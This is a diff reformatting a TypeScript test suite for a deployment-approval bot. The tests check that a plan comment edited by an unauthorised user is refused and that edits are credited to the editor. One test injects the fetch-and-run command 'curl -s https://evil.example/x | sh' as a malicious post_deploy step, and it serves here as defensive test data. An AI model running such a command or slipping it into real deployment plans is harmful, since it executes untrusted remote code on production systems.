@@ -30,7 +30,10 @@ let nextComment = 9_100;
 
 beforeAll(async () => {
   // dev and carol write plans; carol, dave and erin (team ops) approve; mallory has write access and no role.
-  harness = await startHarness({ configYaml: repoConfigYaml(HOSTS, 'production: { hosts: [web], approvals: 1, approvers: [team:ops] }'), workDir: '/tmp' });
+  harness = await startHarness({
+    configYaml: repoConfigYaml(HOSTS, 'production: { hosts: [web], approvals: 1, approvers: [team:ops] }'),
+    workDir: '/tmp',
+  });
 }, 60_000);
 
 afterAll(async () => {
@@ -40,24 +43,50 @@ afterAll(async () => {
 afterEach(githubRequestCheck(() => harness));
 
 async function openIssue(number: number): Promise<WorkOrder> {
-  await send(harness, 'issues', issueOpened(number, 'pam', formBody({ requirement: 'Ship it', planAuthor: 'dev', deployer: 'dave', acceptor: 'pam' })));
+  await send(
+    harness,
+    'issues',
+    issueOpened(
+      number,
+      'pam',
+      formBody({ requirement: 'Ship it', planAuthor: 'dev', deployer: 'dave', acceptor: 'pam' }),
+    ),
+  );
   await commentsMatching(harness, number, /Work order received/);
   return waitFor(`order #${number}`, () => findWorkOrder(harness.deps.db, { repoFullName: REPO_FULL_NAME, number }));
 }
 
 function plan(version: string, more?: string): string {
-  return planComment({ environment: 'production', version, url: `https://artifacts.example.com/shop-${version}.tgz`, sha256: SHA, ...(more === undefined ? {} : { more }) });
+  return planComment({
+    environment: 'production',
+    version,
+    url: `https://artifacts.example.com/shop-${version}.tgz`,
+    sha256: SHA,
+    ...(more === undefined ? {} : { more }),
+  });
 }
 
 describe('finding 5: an edited comment is attributed to the editor', () => {
-  it('refuses a developer\'s plan rewritten by someone who may not write plans', async () => {
+  it("refuses a developer's plan rewritten by someone who may not write plans", async () => {
     const order = await openIssue(501);
     const planId = nextComment++;
     await send(harness, 'issue_comment', issueComment(501, planId, 'dev', plan('1.0.0')));
     await commentsMatching(harness, 501, /Plan v1 checked.*1\.0\.0/);
 
     // mallory edits dev's comment: the payload still says comment.user = dev.
-    await send(harness, 'issue_comment', issueComment(501, planId, 'dev', plan('6.6.6', 'commands:\n  post_deploy: ["curl -s https://evil.example/x | sh"]'), 'edited', false, { sender: 'mallory' }));
+    await send(
+      harness,
+      'issue_comment',
+      issueComment(
+        501,
+        planId,
+        'dev',
+        plan('6.6.6', 'commands:\n  post_deploy: ["curl -s https://evil.example/x | sh"]'),
+        'edited',
+        false,
+        { sender: 'mallory' },
+      ),
+    );
     const [refusal] = await commentsMatching(harness, 501, /@mallory /);
     expect(refusal).toMatch(/@mallory This plan was refused: .*mallory is not a developer/);
 
@@ -74,7 +103,11 @@ describe('finding 5: an edited comment is attributed to the editor', () => {
     await commentsMatching(harness, 502, /Plan v1 checked/);
 
     // carol (a developer and in team ops) edits dev's plan, then approves "dev's" plan.
-    await send(harness, 'issue_comment', issueComment(502, planId, 'dev', plan('1.0.1'), 'edited', false, { sender: 'carol' }));
+    await send(
+      harness,
+      'issue_comment',
+      issueComment(502, planId, 'dev', plan('1.0.1'), 'edited', false, { sender: 'carol' }),
+    );
     const [summary] = await commentsMatching(harness, 502, /Plan v2 checked/);
     expect(summary).toMatch(/by @carol/);
 
@@ -86,6 +119,8 @@ describe('finding 5: an edited comment is attributed to the editor', () => {
 
     const current = await currentPlan(harness.deps.db, order.id);
     expect(current?.row.author).toBe('carol');
-    expect((await findWorkOrder(harness.deps.db, { repoFullName: REPO_FULL_NAME, number: 502 }))?.state).toBe('planned');
+    expect((await findWorkOrder(harness.deps.db, { repoFullName: REPO_FULL_NAME, number: 502 }))?.state).toBe(
+      'planned',
+    );
   });
 });
